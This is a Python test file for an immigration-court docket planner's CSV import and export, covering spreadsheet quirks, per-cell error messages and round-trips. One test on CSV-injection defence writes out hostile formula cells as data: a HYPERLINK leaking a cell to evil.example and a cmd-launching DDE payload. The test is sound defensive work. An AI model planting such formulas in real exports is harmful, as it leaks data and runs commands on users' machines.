"""The cases CSV: what spreadsheets write is read, every bad cell is named, and exports read back."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.domain.bounds import MAX_CASE_MINUTES
from planner.domain.docket import Case
from planner.domain.text import BIDI_CONTROLS
from planner.domain.vocabulary import DEFAULT_CASE_MINUTES, CaseStatus, CompletionKind
from planner.interchange.cases_csv import (
    COLUMNS,
    EXPORT_COLUMNS,
    HEARING_COLUMNS,
    decode_csv,
    read_cases,
    write_cases,
)
from planner.interchange.problems import ImportRefused

KINDS = sorted(DEFAULT_CASE_MINUTES)
HEADER = "a_number,name,kind,detained,juvenile,language,represented,received"


def _read(text: str, existing: dict[str, Case] | None = None) -> list[Case]:
    return list(read_cases(text, case_kinds=KINDS, existing=existing, source="cases.csv").cases)


def _problems(text: str, existing: dict[str, Case] | None = None) -> list[str]:
    with pytest.raises(ImportRefused) as refused:
        read_cases(text, case_kinds=KINDS, existing=existing, source="cases.csv")
    assert str(refused.value).splitlines()[1:] == [f"  {p}" for p in refused.value.problems]
    return [str(problem) for problem in refused.value.problems]


# What a spreadsheet writes ------------------------------------------------------------------


def test_excel_bom_crlf_quotes_commas_and_accents() -> None:
    data = (
        "\ufeffA-Number,Name,Case Kind,Detained,Juvenile,Language,Represented,Received\r\n"
        '"A 012-345-678","Núñez, José Ángel",Asylum Only,Y,n,"K\'iche\'",TRUE,3/1/2025\r\n'
    ).encode()
    (case,) = _read(decode_csv(data))
    assert case == Case(
        "012345678",
        "Núñez, José Ángel",
        "asylum_only",
        date(2025, 3, 1),
        detained=True,
        juvenile=False,
        language="K'iche'",
        represented=True,
    )


@pytest.mark.parametrize(
    "header",
    [
        "a_number,name,kind,detained,language,represented,received",
        "A-Number,NAME,Case Kind,Detained,Language,Represented,Received",
        " a number , Name , case-kind , DETAINED,language,REPRESENTED,received",
        "A_Number,name,case_kind,detained,language,represented,received",
    ],
)
def test_header_names_match_loosely(header: str) -> None:
    (case,) = _read(f"{header}\n123456789,Li Wei,removal,no,Mandarin,yes,2025-01-02\n")
    assert (case.a_number, case.kind, case.language) == ("123456789", "removal", "Mandarin")


def test_missing_optional_columns_take_their_defaults() -> None:
    text = "a_number,name,kind,detained,language,represented,received\n"
    text += "123456789,Li Wei,removal,no,Mandarin,yes,2025-01-02\n"
    (case,) = _read(text)
    assert case.juvenile is False
    assert case.status is CaseStatus.PENDING
    assert (case.remaining_minutes, case.asylum_filed, case.attorney) == (None, None, None)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("yes", True),
        ("YES", True),
        ("y", True),
        ("True", True),
        ("1", True),
        ("no", False),
        ("N", False),
        ("false", False),
        ("0", False),
    ],
)
def test_yes_no_columns_accept_the_usual_spellings(cell: str, expected: bool) -> None:
    (case,) = _read(
        f"{HEADER}\n123456789,Li Wei,removal,{cell},{cell},Mandarin,{cell},2025-01-02\n"
    )
    assert (case.detained, case.juvenile, case.represented) == (expected,) * 3


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("2025-03-01", date(2025, 3, 1)),
        ("3/1/2025", date(2025, 3, 1)),
        ("03/01/2025", date(2025, 3, 1)),
        ("12/31/2024", date(2024, 12, 31)),
    ],
)
def test_dates_are_iso_or_us(cell: str, expected: date) -> None:
    (case,) = _read(f"{HEADER}\n123456789,Li Wei,removal,no,no,Mandarin,no,{cell}\n")
    assert case.received == expected


def test_optional_columns_are_read() -> None:
    text = (
        "a_number,name,kind,detained,language,represented,received,status,completion date,"
        "completion kind,remaining minutes,asylum filed,NTA served,attorney\n"
        "123456789,Li Wei,asylum,no,Mandarin,yes,2025-01-02,Completed,10/9/2026,"
        "In Absentia,90,2025-02-01,2024-12-20,Jane Doe\n"
        "987654321,Ana Paz,asylum,no,Spanish,no,2025-01-02,,,,,,,\n"
    )
    done, pending = _read(text)
    assert done.status is CaseStatus.COMPLETED
    assert done.completion_date == date(2026, 10, 9)
    assert done.completion_kind is CompletionKind.IN_ABSENTIA
    assert (done.remaining_minutes, done.asylum_filed) == (90, date(2025, 2, 1))
    assert (done.nta_served, done.attorney) == (date(2024, 12, 20), "Jane Doe")
    assert pending.status is CaseStatus.PENDING
    assert (pending.remaining_minutes, pending.attorney) == (None, None)


def test_blank_rows_are_skipped_and_surrounding_spaces_trimmed() -> None:
    text = f"{HEADER}\n\n  123456789 , Li Wei ,removal,no,no, Mandarin ,no,2025-01-02\n,,,,,,,\n"
    (case,) = _read(text)
    assert (case.name, case.language) == ("Li Wei", "Mandarin")


def test_an_empty_file_needs_a_header() -> None:
    assert _problems("")[0].startswith("line 1: the file is empty")


# Every bad cell, by line and column ---------------------------------------------------------


def test_every_bad_row_is_listed_by_line_and_column() -> None:
    text = (
        f"{HEADER}\n"
        "12345,Li Wei,removal,no,no,Mandarin,no,2025-01-02\n"
        "123456789,Ana Paz,divorce,maybe,no,Spanish,no,2025-13-01\n"
        "987654321,,removal,no,no,Spanish,no,31/1/2025\n"
    )
    assert _problems(text) == [
        "line 2, column a_number (A): '12345' is not an A-number: expected 8 or 9 digits, "
        "optionally after an 'A' and with spaces or dashes (for example A123-456-789)",
        "line 3, column kind (C): 'divorce' is not a case kind of the judge's profile (the kinds "
        "are adjustment, asylum, asylum_only, bond, cancellation, fear_review, motion, removal)",
        "line 3, column detained (D): 'maybe' is not yes or no (write yes/no, y/n, true/false "
        "or 1/0)",
        "line 3, column received (H): '2025-13-01' is not a date: write YYYY-MM-DD or M/D/YYYY "
        "(2026-03-01 or 3/1/2026)",
        "line 4, column name (B): empty, but every case needs a name",
        "line 4, column received (H): '31/1/2025' is not a date: write YYYY-MM-DD or M/D/YYYY "
        "(2026-03-01 or 3/1/2026)",
    ]


def test_the_first_line_says_nothing_was_imported_and_counts() -> None:
    text = f"{HEADER}\nx,Li Wei,removal,no,no,Mandarin,no,2025-01-02\n"
    with pytest.raises(ImportRefused) as refused:
        read_cases(text, case_kinds=KINDS, source="clerk.csv")
    assert str(refused.value).splitlines()[0] == "nothing was imported: 1 problem in clerk.csv"


def test_line_numbers_count_line_breaks_inside_quoted_cells() -> None:
    text = (
        f"{HEADER}\r\n"
        '123456789,"Li\r\nWei",removal,no,no,Mandarin,no,2025-01-02\r\n'
        '987654321,"Ana\nMaria\nPaz",removal,no,no,Spanish,no,2025-01-02\r\n'
        "111222333,Bo,removal,no,no,Spanish,no,someday\r\n"
    )
    # A name is one line (planner/domain/text.py): those two are refused, on their own lines.
    assert _problems(text) == [
        "line 2: case A123-456-789: the name holds a line break (U+000D, character 3 of 7), "
        "which could change how the text around it is shown: remove it",
        "line 4: case A987-654-321: the name holds a line break (U+000A, character 4 of 13), "
        "which could change how the text around it is shown: remove it",
        "line 7, column received (H): 'someday' is not a date: write YYYY-MM-DD or M/D/YYYY "
        "(2026-03-01 or 3/1/2026)",
    ]


def test_a_case_twice_in_the_file_is_a_bad_row() -> None:
    text = (
        f"{HEADER}\n"
        "123456789,Li Wei,removal,no,no,Mandarin,no,2025-01-02\n"
        "987654321,Ana Paz,removal,no,no,Spanish,no,2025-01-02\n"
        "A123-456-789,Li Wei,removal,no,no,Mandarin,no,bad\n"
    )
    assert _problems(text) == [
        "line 4, column received (H): 'bad' is not a date: write YYYY-MM-DD or M/D/YYYY "
        "(2026-03-01 or 3/1/2026)",
        "line 4, column a_number (A): A123-456-789 is also on line 2; a file lists each case once",
    ]


def test_the_models_rules_are_reported_by_line() -> None:
    text = f"{HEADER},status\n123456789,Li Wei,removal,no,no,Mandarin,no,2025-01-02,completed\n"
    assert _problems(text) == [
        "line 2: case A123-456-789: a completed case needs a completion date and kind, and a "
        "pending case has neither"
    ]


def test_header_problems_are_reported_together() -> None:
    text = "A-Number,Name,Kind,Case Kind,Detained,Notes,Received\n"
    assert _problems(text) == [
        "line 1, column Case Kind (D): 'Case Kind' is the same column as 'Kind' (C); keep one",
        "line 1, column Notes (F): unknown column 'Notes': the columns are "
        + ", ".join((*COLUMNS, *HEARING_COLUMNS, *EXPORT_COLUMNS)),
        "line 1: the required column 'language' is missing",
        "line 1: the required column 'represented' is missing",
    ]


def test_a_semicolon_separated_file_is_recognised() -> None:
    problems = _problems("a_number;name;kind\n123456789;Li;removal\n")
    assert problems == [
        "line 1: the columns are separated by semicolons: save the file with commas "
        "(in Excel, 'CSV UTF-8 (Comma delimited)')"
    ]


def test_a_row_with_more_values_than_columns_is_bad() -> None:
    text = f"{HEADER}\n123456789,Li, Wei,removal,no,no,Mandarin,no,2025-01-02\n"
    assert _problems(text)[0].startswith("line 2: 9 values but the header names 8 columns")


def test_a_value_under_a_nameless_column_is_bad_but_an_empty_one_is_ignored() -> None:
    (case,) = _read(f"{HEADER},\n123456789,Li Wei,removal,no,no,Mandarin,no,2025-01-02,\n")
    assert case.name == "Li Wei"
    text = f"{HEADER},\n123456789,Li Wei,removal,no,no,Mandarin,no,2025-01-02,oops\n"
    assert _problems(text) == ["line 2, column I: the value 'oops' is under a column with no name"]


def test_remaining_minutes_must_be_a_positive_whole_number() -> None:
    text = f"{HEADER},remaining_minutes\n"
    rows = ["1.5", "0", "-3", "9999999999"]
    for i, cell in enumerate(rows):
        text += f"12345678{i},Li Wei,removal,no,no,Mandarin,no,2025-01-02,{cell}\n"
    assert [p.split(":")[0] for p in _problems(text)] == [
        f"line {line}, column remaining_minutes (I)" for line in range(2, 6)
    ]


def test_a_file_that_is_not_utf8_says_where() -> None:
    data = f"{HEADER}\n123456789,Jos\xe9,removal,no,no,Spanish,no,2025-01-02\n".encode("latin-1")
    with pytest.raises(ImportRefused) as refused:
        decode_csv(data, "latin.csv")
    (problem,) = refused.value.problems
    assert problem.where == "line 2"
    assert f"byte 0xE9 at byte position {data.index(0xE9)}" in problem.message
    assert "CSV UTF-8" in problem.message


def test_a_cell_too_large_for_the_csv_reader_is_reported_not_raised() -> None:
    problems = _problems(
        f"{HEADER}\n123456789,{'x' * 200_000},removal,no,no,Mandarin,no,2025-01-02\n"
    )
    assert problems[0].startswith("line 2: this is not readable CSV (field larger than field limit")


# Updating the docket ------------------------------------------------------------------------


def test_a_row_for_a_case_on_the_docket_changes_only_the_columns_the_file_has() -> None:
    on_docket = Case(
        "123456789",
        "Li Wei",
        "asylum",
        date(2024, 1, 2),
        status=CaseStatus.COMPLETED,
        completion_date=date(2026, 10, 9),
        completion_kind=CompletionKind.RELIEF_GRANTED,
        remaining_minutes=240,
        attorney="Jane Doe",
        id=7,
    )
    text = f"{HEADER}\nA123456789,Li Wei,asylum,yes,no,Cantonese,yes,2024-01-02\n"
    text += "987654321,Ana Paz,removal,no,no,Spanish,no,2025-01-02\n"
    found = read_cases(text, case_kinds=KINDS, existing={"123456789": on_docket})
    assert (found.added, found.updated) == (1, 1)
    updated = found.cases[0]
    assert (updated.detained, updated.language, updated.represented) == (True, "Cantonese", True)
    assert updated.status is CaseStatus.COMPLETED
    assert (updated.remaining_minutes, updated.attorney) == (240, "Jane Doe")


def test_an_update_that_breaks_the_models_rules_is_a_bad_row() -> None:
    on_docket = Case(
        "123456789",
        "Li Wei",
        "asylum",
        date(2024, 1, 2),
        status=CaseStatus.COMPLETED,
        completion_date=date(2026, 10, 9),
        completion_kind=CompletionKind.RELIEF_GRANTED,
    )
    text = f"{HEADER},status\n123456789,Li Wei,asylum,no,no,Mandarin,no,2024-01-02,pending\n"
    assert _problems(text, {"123456789": on_docket})[0].startswith("line 2: case A123-456-789")


# Writing and reading back -------------------------------------------------------------------


def test_the_export_writes_every_column_plainly() -> None:
    case = Case(
        "012345678",
        "Núñez, José",
        "asylum",
        date(2025, 3, 1),
        detained=True,
        language="Spanish",
        asylum_filed=date(2025, 4, 1),
    )
    text = write_cases([case])
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(header) == (*COLUMNS, *EXPORT_COLUMNS)
    assert row == [
        "A012-345-678",
        "Núñez, José",
        "asylum",
        "yes",
        "no",
        "Spanish",
        "no",
        "2025-03-01",
        "pending",
        "",
        "",
        "",
        "2025-04-01",
        "",
        "",
        "no",
        "0",
    ]
    assert text.startswith("a_number,name,")
    assert '"Núñez, José"' in text


_CELL = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters=BIDI_CONTROLS)
    | st.sampled_from(",\"'"),
    min_size=1,
    max_size=25,
).filter(lambda text: text == text.strip() and text)
_DAYS = st.dates(date(1900, 1, 1), date(2100, 12, 31))


@st.composite
def case_lists(draw: st.DrawFn) -> list[Case]:
    a_numbers = draw(st.lists(st.from_regex(r"[0-9]{9}", fullmatch=True), max_size=10, unique=True))
    found = []
    for a_number in a_numbers:
        completed = draw(st.booleans())
        received = draw(_DAYS)
        done = draw(_DAYS) if completed else None
        found.append(
            Case(
                a_number=a_number,
                name=draw(_CELL),
                kind=draw(st.sampled_from(KINDS)),
                received=min(received, done) if done else received,  # never completed before
                detained=draw(st.booleans()),
                juvenile=draw(st.booleans()),
                language=draw(_CELL),
                represented=draw(st.booleans()),
                status=CaseStatus.COMPLETED if completed else CaseStatus.PENDING,
                completion_date=done,
                completion_kind=draw(st.sampled_from(CompletionKind)) if completed else None,
                remaining_minutes=draw(st.none() | st.integers(1, MAX_CASE_MINUTES)),
                asylum_filed=draw(st.none() | _DAYS),
                nta_served=draw(st.none() | _DAYS),
                attorney=draw(st.none() | _CELL),
                dedicated_docket=draw(st.booleans()),
            )
        )
    return found


@settings(max_examples=200, deadline=None)
@given(case_lists())
def test_written_cases_read_back_equal(cases: list[Case]) -> None:
    text = write_cases(cases)
    found = read_cases(decode_csv(text.encode("utf-8")), case_kinds=KINDS)
    assert list(found.cases) == cases
    assert (found.added, found.updated) == (len(cases), 0)
    assert write_cases(found.cases) == text


@pytest.mark.parametrize("value", ["@", "'@", "''=1", "'quoted'", "'", "'-"])
def test_a_cell_that_begins_with_an_apostrophe_reads_back_as_it_was(value: str) -> None:
    """The apostrophe that neutralises a formula is taken off on reading; a value that itself
    begins with apostrophes before a formula's first character keeps them (hypothesis found a
    language "'@" read back as "@")."""
    case = Case("100000001", "Ana Ruiz", "asylum", date(2025, 1, 1), language=value)
    text = write_cases([case])
    assert next(csv.DictReader(io.StringIO(text)))["language"][:1] not in FORMULA_CHARACTERS
    assert list(read_cases(text, case_kinds=DEFAULT_CASE_MINUTES).cases) == [case]


FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_read_back() -> None:
    """Issue 15, point 6: as OWASP recommends against CSV injection, a text cell beginning with
    = + - @ (or a tab or carriage return) is written after an apostrophe, which a spreadsheet
    shows as text; the Planner's reader takes the apostrophe off again."""
    hostile = Case(
        "100000001",
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "asylum",
        date(2025, 1, 1),
        language="+Spanish",
        attorney="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    dashed = Case("100000002", "-2+3", "asylum", date(2025, 1, 1), attorney="-Smith")
    plain = Case("100000003", "O'Brien", "asylum", date(2025, 1, 1), attorney="'quoted'")
    text = write_cases([hostile, dashed, plain])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == "'" + hostile.name
    assert rows[0]["language"] == "'+Spanish"
    assert rows[0]["attorney"].startswith("'@")
    assert rows[1]["name"] == "'-2+3"
    assert rows[2]["name"] == "O'Brien"
    assert rows[2]["attorney"] == "'quoted'"
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    found = read_cases(text, case_kinds=DEFAULT_CASE_MINUTES)
    assert list(found.cases) == [hostile, dashed, plain]


def test_the_dedicated_docket_flag_and_the_continuances_are_written_and_read() -> None:
    """Issue 18: the export carries each case's Dedicated Docket flag and its continuances (its
    adjourned hearings); an import reads the flag and ignores the count, which follows from the
    hearings recorded."""
    family = Case("100000001", "Ana Ruiz", "asylum", date(2025, 1, 1), dedicated_docket=True)
    other = Case("100000002", "Luis Paz", "removal", date(2025, 1, 1))
    text = write_cases([family, other], {"100000001": 3})
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["dedicated_docket"], r["continuances"]) for r in rows] == [("yes", "3"), ("no", "0")]
    found = read_cases(text, case_kinds=DEFAULT_CASE_MINUTES)
    assert list(found.cases) == [family, other]
    # A file without the column: not on the Dedicated Docket.
    plain = "a_number,name,kind,detained,language,represented,received\n100000003,Eva,asylum,no,Spanish,no,2025-01-01\n"
    (case,) = read_cases(plain, case_kinds=DEFAULT_CASE_MINUTES).cases
    assert case.dedicated_docket is False
    bad = plain.replace("received\n", "received,dedicated docket\n").replace("01\n", "01,maybe\n")
    with pytest.raises(ImportRefused) as refused:
        read_cases(bad, case_kinds=DEFAULT_CASE_MINUTES)
    assert "'maybe' is not yes or no" in str(refused.value)
